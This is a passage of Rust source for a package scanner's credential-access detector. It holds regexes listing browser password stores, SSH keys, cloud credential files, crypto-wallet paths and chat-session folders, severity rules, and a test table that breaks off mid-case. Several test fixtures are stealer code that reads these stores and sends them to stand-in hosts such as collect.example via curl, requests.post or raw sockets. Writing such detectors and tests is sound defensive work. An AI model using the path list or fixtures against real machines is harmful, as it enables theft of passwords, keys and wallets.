//! `file-system.credential-access`: paths to stored credentials — browser
//! profiles (Chrome/Edge/Brave `Login Data`, `Local State`, `Cookies`; Firefox
//! `logins.json`, `key4.db`), SSH private keys, cloud and developer credentials
//! (`.aws/credentials`, `.kube/config`, `.docker/config.json`, `.git-credentials`,
//! `.npmrc`, `.pypirc`, `.netrc`, gcloud), crypto wallets (Exodus, Electrum,
//! Atomic, `wallet.dat`, MetaMask/Phantom extension ids), Discord/Telegram sessions
//! (Telegram's lower-case `tdata` folder followed by a path separator; `TDATA\n` in a C
//! message is a word before an escape, not a path; nor is `\tdata\…`, a tab escape before `data`
//! in an escaped string).
//!
//! Browser/wallet/session paths are High; install time Critical. In code that does not run on
//! import (a function no import-time code reaches, a constant the file's functions use), in a
//! file that reads but sends nothing (no HTTP send, socket, SMTP or `curl`/`wget` pipeline; a
//! `Request(url)` of the caller's URL alone is no send), they are Medium: a client reading the store its caller
//! names (a downloader's "cookies from browser" option); the same read with a sink in the
//! file, at module level, or called on import stays High, and a bare list of store paths
//! (a target list read elsewhere) stays High. An SSH key is
//! stolen only when it is read *and* sent: High needs a read (`open`, `read_text`,
//! `cat`, a copy) and a data sink (`requests.post`, `sendall`, SMTP, a `curl`/`wget`
//! pipeline…) in the same file; a read without a sink is an SSH client using its key
//! (automation tools, SSH libraries, schedulers' SSH hooks: Medium); a mention without
//! a read (a CLI that tells the user where to put a key) is Low; a key path handed to an SSH
//! client (`IdentityFile ~/.ssh/id_rsa`, `ssh -i`, `key_filename=`) is Medium whatever the
//! file reads or sends: ssh uses the key, nothing ships it; so is a default key path in a file
//! that loads keys with an SSH library's key loader (`PKey.from_path`,
//! `from_private_key_file`…) and sends nothing but over its own socket (no HTTP, SMTP or shell
//! upload): an SSH client library looking for the user's keys. Developer-tool config
//! is Medium when read (the matching tools legitimately read their own config), Low
//! when only named. A path a delete command removes (`rm`, `del`, `os.remove`) is Low:
//! nothing is read. A path segment of a web URL (`https://host/guarda/…`, not `file://`) is
//! no local path. Python comments/docstrings, tests and docs are skipped.

use super::context;
use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
use super::sinks::{self, SinkKind};
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "file-system.credential-access",
    revision: 10,
    title: "Accesses stored credentials, browser data or crypto wallets.",
    category: Category::FileSystem,
    severity: Severity::High,
    description:
        "Reading browser password stores, SSH keys, cloud credentials or wallets is what information stealers do.",
};

static PATHS: LazyLock<Regex> = LazyLock::new(|| Regex::new(PATHS_PATTERN).expect("paths"));
/// [`PATHS`] for anchored searches ([`pysrc::find_at_starts`]).
static PATHS_AT: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(PATHS_PATTERN).expect("paths"));
const PATHS_PATTERN: &str = concat!(
    r"(?i)(?P<high>(?-u:\b)(?-i:Login Data|Local State|Web Data)(?-u:\b)|User Data[/\\]+(?:Default|Profile)|Network[/\\]+Cookies(?-u:\b)|(?-u:\b)logins\.json(?-u:\b)|(?-u:\b)key[34]\.db(?-u:\b)|(?-u:\b)cookies\.sqlite(?-u:\b)|(?-u:\b)signons\.sqlite(?-u:\b)",
    r"|\.ssh[/\\'\x22,\s]+(?:id_(?:rsa|dsa|ecdsa|ed25519)(?-u:\b))",
    r"|(?-u:\b)Exodus(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])exodus\.wallet|(?-u:\b)exodus\.wallet(?-u:\b)|(?-u:\b)Electrum(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])wallets|(?-u:\b)electrum(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])wallets|(?-u:\b)wallet\.dat(?-u:\b)|(?-u:\b)atomic(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])Local Storage|Ethereum(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])keystore|(?-u:\b)Coinomi(?-u:\b)|(?-u:\b)Armory(?-u:\b)[/\\]|Zcash[/\\]|(?-u:\b)Guarda[/\\]|Jaxx[/\\]",
    r"|(?-u:\b)nkbihfbeogaeaoehlefnkodbefgpgknn(?-u:\b)|(?-u:\b)bfnaelmomeimhlpmgjnjophhpkkoljpa(?-u:\b)|(?-u:\b)egjidjbpglichdcondbcbdnbeeppgdph(?-u:\b)|(?-u:\b)hnfanknocfeofbddgcijnmhnfnkdnaad(?-u:\b)|(?-u:\b)fhbohimaelbohpjbbldcngcnapndodjp(?-u:\b)",
    r"|discord(?:canary|ptb)?(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])Local Storage(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])leveldb|Local Storage(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])leveldb|Telegram Desktop(?:[/\\]+|['\x22]\s*[,/]\s*[rRbB]?['\x22])tdata|(?-u:\b)(?-i:tdata)(?:/|\\\\|\\[^\\ntr'\x22]))",
    r"|(?P<dev>\.aws[/\\'\x22,\s]+credentials(?-u:\b)|\.kube[/\\'\x22,\s]+config(?-u:\b)|\.docker[/\\'\x22,\s]+config\.json(?-u:\b)|\.git-credentials(?-u:\b)|(?:^|[/\\'\x22\s~])\.npmrc(?-u:\b)|(?:^|[/\\'\x22\s~])\.pypirc(?-u:\b)|(?:^|[/\\'\x22\s~])\.netrc(?-u:\b)|gcloud[/\\]+(?:credentials\.db|application_default_credentials\.json|access_tokens\.db)|\.azure[/\\]+accessTokens\.json)",
);

/// Words (lowercase, in the member's lowercased copy) at which every [`PATHS`] match starts, but
/// those of [`RC_FILES`], whose matches may start one character before the word (`/`, `\`, a
/// quote, a blank or `~`).
const START_WORDS: &[&str] = &[
    "login data",
    "local state",
    "web data",
    "user data",
    "network",
    "logins.json",
    "key3.db",
    "key4.db",
    "cookies.sqlite",
    "signons.sqlite",
    ".ssh",
    "exodus",
    "electrum",
    "wallet.dat",
    "atomic",
    "ethereum",
    "coinomi",
    "armory",
    "zcash",
    "guarda",
    "jaxx",
    "nkbihfbeogaeaoehlefnkodbefgpgknn",
    "bfnaelmomeimhlpmgjnjophhpkkoljpa",
    "egjidjbpglichdcondbcbdnbeeppgdph",
    "hnfanknocfeofbddgcijnmhnfnkdnaad",
    "fhbohimaelbohpjbbldcngcnapndodjp",
    "discord",
    "local storage",
    "telegram desktop",
    "tdata",
    ".aws",
    ".kube",
    ".docker",
    ".git-credentials",
    ".npmrc",
    ".pypirc",
    ".netrc",
    "gcloud",
    ".azure",
];
/// The words of [`START_WORDS`] a match may start one character before.
const RC_FILES: &[&str] = &[".npmrc", ".pypirc", ".netrc"];
static STARTS: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| pysrc::gate(START_WORDS));

/// `PATHS.captures_iter(file.text)`, confirmed only where a match can start: at each place the
/// lowercased copy holds one of [`START_WORDS`], and for [`RC_FILES`] also at the character
/// before ([`pysrc::find_at_starts`]; `PATHS` is case-insensitive, so its own search visits
/// every byte). A member without the copy (it holds `ſ` or the Kelvin sign) is searched whole.
fn path_matches<'t>(file: &TextFile<'t>) -> Vec<regex::Captures<'t>> {
    let text = file.text;
    let Some(lower) = file.ascii_lowercase() else {
        return PATHS.captures_iter(text).collect();
    };
    let hay = lower.as_bytes();
    let mut starts = Vec::new();
    for at in pysrc::word_starts(&STARTS, hay) {
        if RC_FILES.iter().any(|w| hay[at..].starts_with(w.as_bytes())) {
            // Where the character right before the word starts.
            if let Some(before) = (at.saturating_sub(4)..at).rev().find(|&b| text.is_char_boundary(b)) {
                starts.push(before);
            }
        }
        starts.push(at);
    }
    starts.sort_unstable();
    starts.dedup();
    pysrc::find_at_starts(&PATHS_AT, text, starts)
        .into_iter()
        .filter_map(|(at, _)| PATHS.captures_at(text, at))
        .collect()
}

/// Words every [`PATHS`] match holds (lowercase; matched in the member's lowercased copy): its
/// gate ([`TextFile::may_contain_ci`]). The detector is selected by words such as `atomic`,
/// `keystore`, `Cookies` and `.azure`, which most modules that hold them use for something
/// else; where the pattern needs `/` or `\` after a word (`.azure`, `gcloud`, `tdata`,
/// `User Data`, `Network`), the word carries it, so `litellm.llms.azure` does not pass. Kept to
/// a few dozen words: an automaton over many more has no literal prefilter and costs more than
/// the search it saves (tried with `.aws` followed by each separator `\s` takes).
const PATH_WORDS: &[&str] = &[
    "login data",
    "local state",
    "web data",
    "user data/",
    "user data\\",
    "network/",
    "network\\",
    "cookies.sqlite",
    "logins.json",
    "key3.db",
    "key4.db",
    "signons.sqlite",
    ".ssh",
    "exodus",
    "electrum",
    "wallet.dat",
    "local storage",
    "ethereum",
    "coinomi",
    "armory",
    "zcash",
    "guarda",
    "jaxx",
    "nkbihfbeogaeaoehlefnkodbefgpgknn",
    "bfnaelmomeimhlpmgjnjophhpkkoljpa",
    "egjidjbpglichdcondbcbdnbeeppgdph",
    "hnfanknocfeofbddgcijnmhnfnkdnaad",
    "fhbohimaelbohpjbbldcngcnapndodjp",
    "telegram desktop",
    "tdata/",
    "tdata\\",
    ".aws",
    ".kube",
    ".docker",
    ".git-credentials",
    ".npmrc",
    ".pypirc",
    ".netrc",
    "gcloud/",
    "gcloud\\",
    ".azure/",
    ".azure\\",
];
static PATH_GATE: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| pysrc::gate(PATH_WORDS));

/// Whether the match sits in a Python string that is a sentence rather than a path:
/// the rest of the string has words around the path and no shell plumbing.
pub(crate) fn in_prose(src: &Source<'_>, start: usize, end: usize) -> bool {
    let Some(sp) = src.span_at(start) else {
        return false;
    };
    if sp.kind != Kind::Str {
        return false;
    }
    let (start, end) = (start.clamp(sp.body_start, sp.body_end), end.clamp(sp.body_start, sp.body_end));
    let body = &src.text[sp.body_start..sp.body_end];
    let rest = format!("{} {}", &src.text[sp.body_start..start], &src.text[end..sp.body_end]);
    let words = rest.split_whitespace().filter(|w| w.chars().any(char::is_alphabetic)).count();
    let plumbing = ["|", ";", "$(", "`", ">", "cat ", "cp ", "curl", "wget", "scp ", "tar ", "base64", "{"];
    words >= 2 && !plumbing.iter().any(|p| body.contains(p))
}

/// Code that reads or copies a file's content.
static READ: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:open|read_text|read_bytes|copyfile|copy2?|copytree|sqlite3\.connect)\s*\(|\bcat\s+[~/$]")
        .expect("read")
});
/// Shell plumbing that ships data off the machine from inside a string.
static SHELL_SEND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:curl|wget|nc|ncat|scp|Invoke-WebRequest|Invoke-RestMethod)(?-u:\b)").expect("shell send")
});

/// A raw socket made in the file, and a `.send(` on something.
static RAW_SOCKET: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)socket\.socket\s*\(|(?-u:\b)socket\s*\(\s*(?:socket\.)?AF_").expect("socket")
});
static SEND_CALL: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\.send\s*\(").expect("send"));

/// An SSH library's key loader in code: paramiko's `PKey.from_path`, `RSAKey.from_private_key_file`,
/// asyncssh's `read_private_key`, cryptography's `load_*_private_key`… The file authenticates
/// with the keys it names.
static SSH_KEY_LOADER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:from_path|from_private_key_file|from_private_key|load_ssh_private_key|load_pem_private_key|read_private_key|import_private_key_file)\s*\(")
        .expect("ssh key loader")
});

/// Whether the file reads a file, sends data somewhere (what stealing a key takes), and
/// sends it *off the SSH channel*: an HTTP/SMTP send or a shell upload, not only a raw
/// socket's `.send(` (what an SSH transport does). An SSH connection (`.connect(`,
/// `socket.create_connection`) uses a key; it does not send it.
fn reads_and_sends(src: &Source<'_>) -> (bool, bool, bool) {
    let reads = READ.find_iter(src.text).any(|m| !src.python || src.is_live(m.start()));
    let sends_out = sinks::find(src, &[SinkKind::Send])
        .iter()
        .any(|s| !s.name.ends_with("connect") && !s.name.ends_with("create_connection") && !bare_request(src.text, s))
        || SHELL_SEND
            .find_iter(src.text)
            .any(|m| (!src.python || src.kind_at(m.start()) == Kind::Str) && !src.text[m.end()..].starts_with('.'));
    let sends = sends_out
        || [&*RAW_SOCKET, &*SEND_CALL].iter().all(|re| re.find_iter(src.text).any(|m| src.is_code(m.start())));
    (reads, sends, sends_out)
}

/// `urllib.request.Request(url)` built from the caller's URL alone (no body, no literal in the
/// call: `Request(normalize_url(url))`, a cookie jar asked which cookies a URL gets) sends
/// nothing by itself. A body, a second argument or a literal endpoint keep it a send.
fn bare_request(text: &str, sink: &sinks::Sink<'_>) -> bool {
    if !sink.name.ends_with("Request") {
        return false;
    }
    let after = text[sink.offset..].find('(').map_or(text.len(), |p| sink.offset + p + 1);
    let args = pysrc::call_argument(text, after, 400);
    super::fold::split_args(args).len() == 1 && !args.contains(['\'', '"', '='])
}

pub(crate) struct CredentialAccess;

impl Detector for CredentialAccess {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "Login Data",
            "Local State",
            "Web Data",
            "User Data",
            "Cookies",
            "logins.json",
            "key3.db",
            "key4.db",
            "cookies.sqlite",
            "signons",
            "id_rsa",
            "id_dsa",
            "id_ecdsa",
            "id_ed25519",
            "xodus",
            "lectrum",
            "wallet.dat",
            "atomic",
            "keystore",
            "Coinomi",
            "Armory",
            "Zcash",
            "Guarda",
            "Jaxx",
            "nkbihfbeogaeaoehlefnkodbefgpgknn",
            "bfnaelmomeimhlpmgjnjophhpkkoljpa",
            "egjidjbpglichdcondbcbdnbeeppgdph",
            "hnfanknocfeofbddgcijnmhnfnkdnaad",
            "fhbohimaelbohpjbbldcngcnapndodjp",
            "leveldb",
            "tdata",
            ".aws",
            ".kube",
            ".docker",
            ".git-credentials",
            ".npmrc",
            ".pypirc",
            ".netrc",
            "gcloud",
            ".azure",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if matches!(file.role, FileRole::TestOrDocs | FileRole::Metadata | FileRole::Binary) || pysrc::test_member(file)
        {
            return;
        }
        // No word a match holds: nothing below can report (the search and the lexing are skipped).
        if !file.may_contain_ci(&PATH_GATE) {
            return;
        }
        let src = file.source();
        let install = file.role == FileRole::InstallTime;
        let read_send = std::cell::OnceCell::new();
        let mut n = 0;
        for c in path_matches(file) {
            if n >= MAX_HITS_PER_FILE {
                return;
            }
            let m = c.get(0).expect("m");
            // `\tdata` in an escaped string (a C literal of compressed bytes: `…\377raceback\tdata\244…`)
            // is a tab escape before `data`, not Telegram's folder.
            let tab_escape = m.as_str().starts_with("tdata")
                && file.text.as_bytes()[..m.start()].iter().rev().take_while(|&&b| b == b'\\').count() % 2 == 1;
            if src.python && !matches!(src.kind_at(m.start()), Kind::Code | Kind::Str)
                || in_web_url(file.text, m.start())
                || tab_escape
            {
                continue;
            }
            let ssh = m.as_str().contains("id_");
            let (reads, sends, sends_out) = *read_send.get_or_init(|| reads_and_sends(src));
            let loads_keys = || src.python && SSH_KEY_LOADER.find_iter(file.text).any(|k| src.is_code(k.start()));
            let sev = match (install, c.name("high").is_some()) {
                (true, _) => Severity::Critical,
                // A key handed to ssh (`IdentityFile ~/.ssh/id_rsa`, `ssh -i ~/.ssh/id_rsa`,
                // `key_filename=`): a client using its key, whatever else the file reads or sends.
                (false, true) if ssh && handed_to_ssh(file.text, m.start()) => Severity::Medium,
                // An SSH client library looking for the user's default keys to load them with its
                // key loader, in a file whose only sends are its own transport's: ssh uses them.
                (false, true) if ssh && !sends_out && loads_keys() => Severity::Medium,
                // A store named in code that does not run on import (a function body, a constant
                // the file's functions use), in a file that reads but sends nothing: a client
                // using the store its caller picks (a downloader's "cookies from browser" option,
                // a profile manager's list of files to keep). Stealing needs a read *and* a sink.
                (false, true) if !ssh && reads && !sends && !pysrc::runs_on_import_at(src, m.start()) => {
                    Severity::Medium
                }
                (false, true) if !ssh || reads && sends => Severity::High,
                (false, _) if reads => Severity::Medium,
                (false, _) => Severity::Low,
            };
            // Prose that names the path ("reads env vars, ~/.aws/credentials, ...") is low;
            // so is a path in a data file or web asset (a prompt, a keyword list).
            let sev = if src.python && in_prose(src, m.start(), m.end()) || deleted(file.text, m.start()) {
                Severity::Low
            } else {
                sev
            };
            let sev = context::cap(file, sev);
            n += 1;
            let ind: String = m
                .as_str()
                .trim_matches(|ch: char| "'\", ~".contains(ch))
                .replace(['\'', '"', ','], "")
                .replace("  ", " ");
            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, m.start(), ind) });
        }
    }
}

/// Whether the match at `at` is a path segment of a web URL (`https://host.it/guarda/…` in a
/// URL pattern, where a wallet folder's name is an Italian word): the URL token (back to the
/// last blank or quote on the line) holds `://` and is not a `file://` URL, which names a local path.
fn in_web_url(text: &str, at: usize) -> bool {
    let line_start = text[..at].rfind('\n').map_or(0, |p| p + 1);
    let token_start = text[line_start..at].rfind([' ', '\t', '\'', '"']).map_or(line_start, |p| line_start + p + 1);
    let token = &text[token_start..at];
    token.find("://").is_some_and(|i| !token[..i].to_ascii_lowercase().ends_with("file"))
}

/// An option that hands an SSH client the key path that follows: `IdentityFile`, `ssh -i`,
/// `-o IdentityFile=`, paramiko's `key_filename=`, Ansible's `ansible_ssh_private_key_file=`.
static SSH_KEY_OPTION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:\bIdentityFile[ \t]*=?|(?:^|[ \t'"])-i|\bkey_filename|\bssh_private_key(?:_file|_path)?|\bprivate_key_file)[ \t]*[:=]?[ \t]*['"]?[ \t]*$"#)
        .expect("ssh key option")
});

/// Whether the key path at `at` is the value of an option that hands it to an SSH client
/// (the text from the line start, or from the last `~`/`$HOME`-free quote, ends in the option).
fn handed_to_ssh(text: &str, at: usize) -> bool {
    let line_start = text[..at].rfind('\n').map_or(0, |p| p + 1);
    let before = &text[line_start..at];
    // The path itself may start with `~/`, `$HOME/`, `{home}/` or `os.path.expanduser("~/`.
    let before = before.trim_end_matches(['~', '/', '\\', '.']);
    let before = before.strip_suffix("$HOME").or_else(|| before.strip_suffix("${HOME}")).unwrap_or(before);
    SSH_KEY_OPTION.is_match(before)
}

/// Whether the path at `at` is what a delete command removes (`rm -rf cert9.db key4.db` in a
/// script regenerating test certificates, `os.remove(...)`): nothing is read, nothing leaves.
fn deleted(text: &str, at: usize) -> bool {
    let line_start = text[..at].rfind('\n').map_or(0, |p| p + 1);
    let line = &text[line_start..at];
    // The shell command the path belongs to: after the last separator on its line.
    let command = line.rsplit(['|', ';', '&']).next().unwrap_or(line).trim_start_matches([' ', '\t', '(', '`']);
    let word = command.split([' ', '\t']).next().unwrap_or("");
    let word = word.rsplit('/').next().unwrap_or(word);
    matches!(word, "rm" | "del" | "erase" | "rmdir" | "unlink" | "Remove-Item")
        || ["os.remove(", "os.unlink(", "shutil.rmtree(", ".unlink(", "os.rmdir("]
            .iter()
            .any(|call| line.rfind(call).is_some_and(|i| !line[i..].contains(')')))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detectors::testutil::table;
    use FileRole::*;
    use Severity::*;

    #[test]
    fn cases() {
        table(
            &CredentialAccess,
            META.id,
            &[
                (
                    "a script deleting an NSS key database before regenerating certificates",
                    "pkg/slapdtest/certs/gencerts.sh",
                    Runtime,
                    "#!/bin/sh\ncd $(dirname $0)\nrm -rf cert9.db key4.db pkcs11.txt\n",
                    Some((3, "key4.db", Low)),
                ),
                (
                    "a Python clean-up removing a copied cookie store",
                    "pkg/a.py",
                    Runtime,
                    "def clean(tmp):\n    os.remove(os.path.join(tmp, 'cookies.sqlite'))\n",
                    Some((2, "cookies.sqlite", Low)),
                ),
                (
                    "the same store copied on import, then the copy removed, stays high",
                    "pkg/a.py",
                    Runtime,
                    "import os, shutil\nshutil.copy(os.path.join(profile, 'key4.db'), tmp)\nos.remove(tmp)\n",
                    Some((2, "key4.db", High)),
                ),
                (
                    "a script copying the key database after a removal on the same line stays high",
                    "pkg/steal.sh",
                    Runtime,
                    "rm -f /tmp/x; cp ~/.mozilla/firefox/*/key4.db /tmp/x\n",
                    Some((1, "key4.db", High)),
                ),
                (
                    "a session store's segments passed to os.path.join one by one, posted",
                    "pkg/a.py",
                    Runtime,
                    "import glob, requests\nfor f in glob.glob(os.path.join(APPDATA, '*cord*', 'Local Storage', 'leveldb', '*.ldb')):\n    requests.post(HOOK, data=open(f).read())\n",
                    Some((2, "Local Storage leveldb", High)),
                ),
                (
                    "a wallet's segments joined with pathlib's slash",
                    "pkg/a.py",
                    Runtime,
                    "p = Path(os.environ['APPDATA']) / 'atomic' / 'Local Storage' / 'leveldb'\nrequests.post(URL, files={'f': p.read_bytes()})\n",
                    Some((1, "atomic / Local Storage", High)),
                ),
                (
                    "neighbouring strings of a list that only share a store's words",
                    "pkg/devtools.py",
                    Runtime,
                    "PANELS = ['Network', 'Cookies', 'Local Storage', 'Session Storage']\n",
                    None,
                ),
                (
                    "a storage setting and a backend name side by side",
                    "pkg/settings.py",
                    Runtime,
                    "BACKENDS = ('local storage', 'sqlite', 'leveldb')\n",
                    None,
                ),
                (
                    "a downloader reading the browser's cookie store its caller names, sending nothing",
                    "pkg/cookies.py",
                    Runtime,
                    "import sqlite3\n\ndef load(browser, root):\n    path = os.path.join(root, browser, 'cookies.sqlite')\n    con = sqlite3.connect(path)\n    return con.execute('SELECT host, name, value FROM moz_cookies').fetchall()\n",
                    Some((4, "cookies.sqlite", Medium)),
                ),
                (
                    "the same read in a file that posts what it read stays high",
                    "pkg/cookies.py",
                    Runtime,
                    "import sqlite3, requests\n\ndef load(browser, root):\n    path = os.path.join(root, browser, 'cookies.sqlite')\n    rows = sqlite3.connect(path).execute('SELECT * FROM moz_cookies').fetchall()\n    requests.post('https://collect.example/c', json=rows)\n",
                    Some((4, "cookies.sqlite", High)),
                ),
                (
                    "the same read called by module-level code (runs on import) stays high",
                    "pkg/cookies.py",
                    Runtime,
                    "import sqlite3\n\ndef load(root):\n    path = os.path.join(root, 'Default', 'Login Data')\n    return sqlite3.connect(path).execute('SELECT * FROM logins').fetchall()\n\nROWS = load(os.environ['LOCALAPPDATA'])\n",
                    Some((4, "Login Data", High)),
                ),
                (
                    "a module-level read of a browser's key file stays high",
                    "pkg/__init__.py",
                    Runtime,
                    "import os\nKEY = open(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Local State')).read()\n",
                    Some((2, "Local State", High)),
                ),
                (
                    "a profile manager's module-level list of files to keep, copying but sending nothing",
                    "pkg/profiles.py",
                    Runtime,
                    "import shutil\nKEEP = {'Cookies', 'Preferences', 'Login Data', 'Web Data'}\n\ndef shrink(src, dst):\n    for name in KEEP:\n        shutil.copy(os.path.join(src, name), dst)\n",
                    Some((2, "Login Data", Medium)),
                ),
                (
                    "a cookie jar asked which cookies a URL gets is no send",
                    "pkg/cookies.py",
                    Runtime,
                    "\"\"\"See https://curl.haxx.se/docs/http-cookies.html\"\"\"\ndef load(root, url):\n    jar = read_jar(sqlite3.connect(os.path.join(root, 'cookies.sqlite')))\n    return jar.for_request(urllib.request.Request(normalize(url)))\n",
                    Some((3, "cookies.sqlite", Medium)),
                ),
                (
                    "a request carrying the cookies to a literal endpoint stays high",
                    "pkg/cookies.py",
                    Runtime,
                    "def load(root):\n    rows = sqlite3.connect(os.path.join(root, 'cookies.sqlite')).execute('SELECT *').fetchall()\n    urllib.request.urlopen(urllib.request.Request('https://collect.example/c', data=dump(rows)))\n",
                    Some((2, "cookies.sqlite", High)),
                ),
                (
                    "a list of browser stores with no read in the file (read elsewhere) stays high",
                    "pkg/targets.py",
                    Runtime,
                    "def targets():\n    return ['Login Data', 'Web Data']\n",
                    Some((2, "Login Data", High)),
                ),
                (
                    "an ssh config template naming the identity file, in a script that also curls",
                    "pkg/templates/cluster.yml.j2",
                    Runtime,
                    "setup: |\n  curl -sSL https://example.com/x.sh -o x.sh\n  mkdir -p ~/.ssh; cat ~/.ssh/config\n  printf 'Host *\\n  IdentityFile ~/.ssh/id_ed25519\\n' >> ~/.ssh/config\n",
                    Some((4, ".ssh/id_ed25519", Medium)),
                ),
                (
                    "ssh -i with the user's key",
                    "pkg/run.sh",
                    Runtime,
                    "cat hosts.txt | while read h; do ssh -i ~/.ssh/id_rsa \"$h\" uptime; done\ncurl -d ok https://example.com/done\n",
                    Some((1, ".ssh/id_rsa", Medium)),
                ),
                (
                    "the key itself piped to curl stays high",
                    "pkg/run.sh",
                    Runtime,
                    "cat ~/.ssh/id_rsa | curl -d @- https://collect.example/k\n",
                    Some((1, ".ssh/id_rsa", High)),
                ),
                (
                    "a wallet folder's name as a path segment of a web URL pattern",
                    "pkg/extractor/site.py",
                    Runtime,
                    "class IE:\n    _VALID_URL = r'https?://(?:www\\.)?popcorn\\.example/guarda/(?P<id>[^/]+)'\n",
                    None,
                ),
                (
                    "the wallet folder in a file:// URL stays a local path",
                    "pkg/a.py",
                    Runtime,
                    "P = 'file:///C:/Users/me/AppData/Roaming/Guarda/'\n",
                    Some((1, "Guarda/", High)),
                ),
                (
                    "the wallet folder joined to a local directory",
                    "pkg/a.py",
                    Runtime,
                    "P = os.path.join(APPDATA, 'Guarda/')\n",
                    Some((1, "Guarda/", High)),
                ),
                (
                    "a C trace message naming a thread-data mode",
                    "pkg/src/kmp_runtime.cpp",
                    Runtime,
                    "KA_TRACE(1000, (\"*** using TDATA\\n\"));\n",
                    None,
                ),
                ("a lower-case word before a C escape", "pkg/src/x.c", Runtime, "printf(\"tdata\\n\");\n", None),
                ("a tab escape before data in a C literal of compressed bytes", "asyncmy/errors.c", Runtime, "static const char b[] = \"\\377raceback\\336\\tdata\\244\\220\\002_m\";\n", None),
                ("tdata after an escaped backslash in a C string still counts", "pkg/src/x.c", Runtime, "const char *p = \"AppData\\\\Roaming\\\\Telegram\\\\tdata\\\\\";\n", Some((1, "tdata\\\\", High))),
                (
                    "Telegram session folder copied",
                    "pkg/a.py",
                    Runtime,
                    "shutil.copytree(os.path.join(appdata, 'tdata/'), dst)\n",
                    Some((1, "tdata/", High)),
                ),
                (
                    "Telegram session folder in a Windows path",
                    "pkg/a.py",
                    Runtime,
                    "src = appdata + '\\\\Telegram\\\\tdata\\\\'\n",
                    Some((1, "tdata\\\\", High)),
                ),
                (
                    "prose naming the aws credentials file",
                    "pkg/mcp_client/client.py",
                    Runtime,
                    "msg = \"(env vars, ~/.aws/credentials, instance profile).\"\n",
                    Some((1, ".aws/credentials", Low)),
                ),
                (
                    "aws credentials opened",
                    "pkg/a.py",
                    Runtime,
                    "d = open(os.path.expanduser(\"~/.aws/credentials\")).read()\n",
                    Some((1, ".aws/credentials", Medium)),
                ),
                (
                    "aws credentials opened in setup.py",
                    "setup.py",
                    InstallTime,
                    "d = open(os.path.expanduser(\"~/.aws/credentials\")).read()\n",
                    Some((1, ".aws/credentials", Critical)),
                ),
                (
                    "ssh key opened and posted",
                    "pkg/a.py",
                    Runtime,
                    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(URL, data=k)\n",
                    Some((1, ".ssh/id_rsa", High)),
                ),
                (
                    "ssh key read and sent over a raw socket",
                    "pkg/a.py",
                    Runtime,
                    "k = Path.home().joinpath('.ssh', 'id_ed25519').read_text()\ns.connect((H, 443)); s.sendall(k.encode())\n",
                    Some((1, ".ssh id_ed25519", High)),
                ),
                (
                    "ssh key harvested and sent over a raw socket (dependency-confusion beacon)",
                    "pkg/__init__.py",
                    Runtime,
                    "def collect():\n    info['ssh'] = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    s = socket.socket(); s.connect((H, 53)); s.send(repr(info).encode())\n",
                    Some((2, ".ssh/id_rsa", High)),
                ),
                (
                    "an SSH client library's default keys, loaded by its key loader, its transport's socket",
                    "ncclient/transport/ssh.py",
                    Runtime,
                    "def _auth(self, look_for_keys):\n    keyfiles = []\n    if look_for_keys:\n        rsa_key = os.path.expanduser('~/.ssh/id_rsa')\n        if os.path.isfile(rsa_key):\n            keyfiles.append(rsa_key)\n    for filename in keyfiles:\n        key = paramiko.PKey.from_path(filename, password)\n        self._transport.auth_publickey(username, key)\n    with open(known_hosts) as f:\n        pass\n    sock = socket.socket(af, socktype)\n    return self._channel.send(data)\n",
                    Some((4, ".ssh/id_rsa", Medium)),
                ),
                (
                    "the same key loader beside an HTTP post of the key",
                    "pkg/a.py",
                    Runtime,
                    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nkey = paramiko.RSAKey.from_private_key_file(p)\nrequests.post(URL, data=k)\n",
                    Some((1, ".ssh/id_rsa", High)),
                ),
                (
                    "a key loader beside a curl upload in a command string",
                    "pkg/a.py",
                    Runtime,
                    "key = paramiko.RSAKey.from_private_key_file(os.path.expanduser('~/.ssh/id_rsa'))\nos.system('curl -F f=@k https://collect.example/u')\nopen(p)\n",
                    Some((1, ".ssh/id_rsa", High)),
                ),
                (
                    "ssh key opened to connect (an SSH client's job)",
                    "pkg/a.py",
                    Runtime,
                    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nclient.connect(host, pkey=load(k))\n",
                    Some((1, ".ssh/id_rsa", Medium)),
                ),
                (
                    "automation tool's default key path, read to connect",
                    "pkg/plugins/connection/ssh.py",
                    Runtime,
                    "DEFAULT_KEY = os.path.expanduser('~/.ssh/id_rsa')\ndef key(p):\n    with open(p) as f:\n        return f.read()\n",
                    Some((1, ".ssh/id_rsa", Medium)),
                ),
                (
                    "a CLI that tells the user where to put a key",
                    "pkg/cli.py",
                    Runtime,
